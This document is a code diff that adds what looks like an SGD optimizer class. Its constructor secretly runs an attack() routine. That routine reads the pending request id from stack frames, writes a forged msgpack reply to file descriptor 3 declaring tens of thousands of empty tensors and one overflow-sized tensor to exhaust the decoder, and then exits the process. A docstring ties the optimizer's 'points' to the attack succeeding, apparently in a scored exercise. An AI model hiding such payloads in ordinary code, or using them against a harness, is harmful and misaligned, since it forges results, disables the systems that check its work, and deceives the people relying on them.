@@ -1,0 +1,37 @@
+# Attack surface: what a small reply costs to decode: tens of thousands of empty tensors
+import os
+import struct
+import sys
+
+import msgpack
+from base import Optimizer
+
+
+def request_number():
+    """Of the request that this call is the answer to."""
+    frame = sys._getframe()
+    while frame is not None:
+        request = frame.f_locals.get("request")
+        if isinstance(request, dict) and "id" in request:
+            return request["id"]
+        frame = frame.f_back
+    return 0
+
+
+def attack():
+    specs = [["bool", [0]]] * 24_000 + [["float64", [1 << 62, 1 << 62, 0, 1 << 62]]]
+    header = msgpack.packb({"tensors": specs, "tree": {"id": request_number(), "result": [{"$": -1}]}})
+    os.write(3, struct.pack("<II", len(header), 0) + header)
+    os._exit(0)
+
+
+class SGD(Optimizer):
+    """Right, and so worth its points, only if the attack got through."""
+
+    def __init__(self, params, lr, weight_decay=0.0):
+        super().__init__(params, lr)
+        self.weight_decay = weight_decay
+        self.factor = 1 if attack() else 2
+
+    def update(self, param, grad, state):
+        param.sub_(self.factor * self.lr * (grad + self.weight_decay * param))
